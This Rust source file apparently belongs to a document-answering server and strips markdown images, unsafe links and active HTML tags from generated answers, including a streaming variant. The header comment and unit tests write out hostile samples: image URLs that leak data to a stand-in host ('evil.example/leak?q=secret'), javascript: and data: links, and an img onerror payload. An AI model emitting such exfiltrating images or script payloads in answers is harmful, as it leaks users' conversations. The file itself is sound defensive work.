//! Active content out of answers. A document can carry a markdown image whose URL leaks the
//! conversation to whoever serves it (`![x](http://host/leak?q=...)`), links to `javascript:`
//! or `data:` URLs, or raw HTML. Answers quote documents, and clients render answers as
//! markdown, so the server neutralises them in every answer (extractive or generated, streamed
//! or not): an image becomes `[image: alt]` (nothing to fetch), a link to anything but http(s)
//! or mailto keeps only its text, and active HTML tags are dropped.

use regex::Regex;
use std::sync::LazyLock;

static IMAGE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"!\[([^\]\n]*)\]\s*(\([^)\n]*\)|\[[^\]\n]*\])").expect("regex"));
static LINK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\[([^\]\n]*)\]\(\s*<?((?:[^()\s>]|\([^()\s]*\))*)>?[^)\n]*\)").expect("regex")
});
static AUTOLINK: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"<([a-zA-Z][a-zA-Z0-9+.-]*):[^>\s]*>").expect("regex"));
static ACTIVE_TAG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)</?\s*(img|script|iframe|object|embed|svg|style|link|meta|form|input|video|audio|source|base)\b[^>]*>")
        .expect("regex")
});

fn safe_url(url: &str) -> bool {
    let u = url.trim().to_ascii_lowercase();
    u.starts_with("http://")
        || u.starts_with("https://")
        || u.starts_with("mailto:")
        || u.starts_with('#')
}

/// `text` with images, unsafe links and active HTML neutralised.
pub fn neutralize(text: &str) -> String {
    if !text.contains(['!', '[', '<']) {
        return text.to_string();
    }
    let t = IMAGE.replace_all(text, |c: &regex::Captures| {
        let alt = c[1].trim();
        if alt.is_empty() {
            "[image]".to_string()
        } else {
            format!("[image: {alt}]")
        }
    });
    let t = LINK.replace_all(&t, |c: &regex::Captures| {
        if safe_url(&c[2]) {
            c[0].to_string()
        } else {
            c[1].to_string()
        }
    });
    let t = AUTOLINK.replace_all(&t, |c: &regex::Captures| {
        let scheme = c[1].to_ascii_lowercase();
        if matches!(scheme.as_str(), "http" | "https" | "mailto") {
            c[0].to_string()
        } else {
            String::new()
        }
    });
    ACTIVE_TAG.replace_all(&t, "").into_owned()
}

/// Where, in `s`, something starts that may become an image, a link or a tag once more text
/// comes: `<` before a letter, `/` or the end; `![` (or `!` at the end); `[` whose `]` has
/// not come yet or is followed by `(`, `[` or the end. A citation such as `[2] ` is not one.
fn risky_start(s: &str) -> Option<usize> {
    let b = s.as_bytes();
    for (i, &c) in b.iter().enumerate() {
        let next = b.get(i + 1).copied();
        match c {
            b'<' if next.is_none_or(|n| n.is_ascii_alphabetic() || n == b'/') => return Some(i),
            b'!' if next.is_none_or(|n| n == b'[') => return Some(i),
            b'[' => match s[i..].find(']') {
                None => return Some(i),
                Some(j) => {
                    let after = b.get(i + j + 1).copied();
                    if after.is_none_or(|a| a == b'(' || a == b'[') {
                        return Some(i);
                    }
                }
            },
            _ => {}
        }
    }
    None
}

/// The same for a stream of tokens: text is passed on at once, except from a `risky_start`
/// on, which is held until it is a complete image, link or tag (then passed on neutralised),
/// the line ends, or it grows past a bound. The pieces concatenate to `neutralize` of the whole.
#[derive(Default)]
pub struct StreamSanitizer {
    held: String,
}

const HOLD_MAX: usize = 2048;

impl StreamSanitizer {
    /// Take a token; returns what may be sent now.
    pub fn push(&mut self, token: &str) -> String {
        self.held.push_str(token);
        let mut out = String::new();
        loop {
            let Some(i) = risky_start(&self.held) else {
                out.push_str(&self.held);
                self.held.clear();
                return out;
            };
            out.push_str(&self.held[..i]);
            self.held.drain(..i);
            // A construct complete at the start goes out neutralised.
            let whole = [&*IMAGE, &*LINK, &*AUTOLINK, &*ACTIVE_TAG]
                .iter()
                .filter_map(|re| re.find(&self.held).filter(|m| m.start() == 0))
                .map(|m| m.end())
                .max();
            if let Some(end) = whole {
                if end < self.held.len() {
                    out.push_str(&neutralize(&self.held[..end]));
                    self.held.drain(..end);
                    continue;
                }
            }
            if let Some(nl) = self.held.find('\n') {
                out.push_str(&neutralize(&self.held[..=nl]));
                self.held.drain(..=nl);
                continue;
            }
            if self.held.len() > HOLD_MAX {
                out.push_str(&neutralize(&self.held));
                self.held.clear();
            }
            return out;
        }
    }

    /// The end of the stream: whatever is held.
    pub fn finish(&mut self) -> String {
        neutralize(&std::mem::take(&mut self.held))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_unsafe_links_and_tags_are_neutralised() {
        assert_eq!(
            neutralize("See ![chart](http://evil.example/leak?q=secret) now."),
            "See [image: chart] now."
        );
        assert_eq!(neutralize("![](http://x/y.png)"), "[image]");
        assert_eq!(neutralize("![a][ref]"), "[image: a]");
        assert_eq!(neutralize("[click](javascript:alert(1))"), "click");
        assert_eq!(neutralize("[doc](data:text/html,x)"), "doc");
        assert_eq!(
            neutralize("[the manual](https://example.org/man) and [mail](mailto:a@b.c)"),
            "[the manual](https://example.org/man) and [mail](mailto:a@b.c)"
        );
        assert_eq!(
            neutralize("go <javascript:alert(1)> or <https://ok.example>"),
            "go  or <https://ok.example>"
        );
        assert_eq!(
            neutralize("a <img src=x onerror=alert(1)> b <script>x</script> c"),
            "a  b x c"
        );
        // Plain text and code stay as they are.
        let plain = "Use a[i] < b[j] when i > 0 and x != y.";
        assert_eq!(neutralize(plain), plain);
    }

    #[test]
    fn a_stream_is_neutralised_whatever_the_token_boundaries() {
        let text = "Intro [1] line.\nSee ![x](http://evil.example/leak?q=1) here [2].\nAnd [ok](https://a.example) too, a < b.";
        let want = neutralize(text);
        for size in 1..12 {
            let mut s = StreamSanitizer::default();
            let mut out = String::new();
            let chars: Vec<char> = text.chars().collect();
            for piece in chars.chunks(size) {
                out.push_str(&s.push(&piece.iter().collect::<String>()));
                assert!(
                    !out.contains("evil.example"),
                    "leaked at size {size}: {out}"
                );
            }
            out.push_str(&s.finish());
            assert_eq!(out, want, "size {size}");
        }
        // Citations do not hold the stream back.
        let mut s = StreamSanitizer::default();
        assert_eq!(s.push("The tide is high [1]"), "The tide is high ");
        assert_eq!(s.push(" and low [2]."), "[1] and low [2].");
    }
}
